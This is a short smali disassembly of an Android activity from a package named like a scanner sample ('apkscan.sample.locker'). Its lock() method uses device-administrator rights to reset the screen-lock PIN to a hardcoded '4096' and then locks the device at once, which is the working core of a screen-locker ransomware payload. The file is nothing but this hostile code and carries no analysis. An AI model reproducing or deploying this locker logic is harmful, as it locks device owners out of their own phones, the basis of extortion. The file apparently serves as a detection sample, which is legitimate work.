.class public Lorg/apkscan/sample/locker/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

# Changes the screen-lock PIN as device administrator, then locks the screen.
.method public lock()V
    .registers 4
    const-string v0, "device_policy"
    invoke-virtual {p0, v0}, Lorg/apkscan/sample/locker/MainActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Landroid/app/admin/DevicePolicyManager;
    const-string v2, "4096"
    const/4 v3, 0x0
    invoke-virtual {v1, v2, v3}, Landroid/app/admin/DevicePolicyManager;->resetPassword(Ljava/lang/String;I)Z
    invoke-virtual {v1}, Landroid/app/admin/DevicePolicyManager;->lockNow()V
    return-void
.end method
